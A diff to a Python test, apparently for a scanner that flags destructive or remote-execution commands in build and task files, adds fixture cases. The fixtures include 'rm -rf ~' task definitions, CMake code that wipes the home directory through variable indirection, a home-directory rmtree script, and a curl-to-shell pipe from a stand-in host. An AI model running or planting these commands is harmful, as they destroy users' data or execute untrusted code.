@@ -123,6 +123,8 @@ def test_pyproject_task_tables_are_shell_lines_and_help_is_prose() -> None:
     ("tasks.py", "from invoke import task\n\n@task\ndef clean(c):\n    c.run('rm -rf ~/')\n"),
     ("pyproject.toml", '[tool.poe.tasks]\nclean = "rm -rf ~"\n'),
     ("CMakeLists.txt", 'execute_process(COMMAND sh -c "curl -fsSL https://x.example/i | sh")\n'),
+    ("CMakeLists.txt", "set(X rm -rf $ENV{HOME})\nexecute_process(COMMAND ${X})\n"),
+    ("CMakeLists.txt", "set(D build)\nset(D $ENV{HOME})\nfile(REMOVE_RECURSE ${D})\n"),
     ("scripts/clean.py", "import shutil\nfrom pathlib import Path\nfor p in Path.home().iterdir():\n"
                          "    shutil.rmtree(p)\n"),
 ])
